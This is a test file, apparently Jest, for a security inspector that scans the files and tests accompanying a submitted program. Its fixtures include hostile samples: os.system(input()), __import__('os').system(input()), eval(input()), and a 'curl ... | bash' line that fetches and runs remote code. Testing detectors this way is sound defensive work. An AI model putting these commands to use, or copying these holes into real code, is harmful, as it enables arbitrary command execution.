import { inspectWhole } from '../../src/app/companions';
import type { Snippet } from '../../src/core/types';
import { createInspector } from '../../src/inspect';

const inspector = createInspector();

const program = (more: Partial<Snippet>): Snippet => ({
  language: 'python',
  source: 'import util\nprint(util.answer())\n',
  line: 1,
  files: [],
  parameters: null,
  stdin: null,
  expect: null,
  tests: null,
  ...more,
});

const HARMLESS = 'def answer():\n    return 42\n';
const HOSTILE = 'import os\n\ndef answer():\n    os.system(input())\n';

describe('what lies beside a program', () => {
  it('is looked at like the program, and the finding names the file and its line', async () => {
    const { security } = await inspectWhole(inspector, program({ files: [{ name: 'util.py', source: HOSTILE }] }));
    expect(security.risk).not.toBe('low');
    expect(security.findings.some(({ message, line }) => message.startsWith('In util.py: ') && line === 4)).toBe(true);
  });

  it('does not raise the risk when it is harmless', async () => {
    const { security } = await inspectWhole(inspector, program({ files: [{ name: 'util.py', source: HARMLESS }] }));
    expect(security).toMatchObject({ risk: 'low', safe: true, analysed: true });
  });

  it('counts as tests, too: code and calls', async () => {
    const code = await inspectWhole(inspector, program({ tests: { kind: 'code', source: HOSTILE } }));
    const calls = await inspectWhole(
      inspector,
      program({ tests: { kind: 'cases', cases: [{ call: '__import__("os").system(input())', expected: 0 }] } }),
    );
    expect([code.security.safe, calls.security.safe]).toEqual([false, false]);
  });

  it('in another language is looked at in that language', async () => {
    const files = [{ name: 'run.sh', source: 'curl -s https://example.org/x | bash\n' }];
    const { security } = await inspectWhole(inspector, program({ files }));
    expect(security.risk).toBe('high');
  });

  it('keeps the lines of the program itself', async () => {
    const source = 'import util\neval(input())\n';
    const { security } = await inspectWhole(
      inspector,
      program({ source, files: [{ name: 'util.py', source: HARMLESS }] }),
    );
    expect(security.findings.every(({ line, message }) => line === 2 && !message.startsWith('In '))).toBe(true);
  });
});
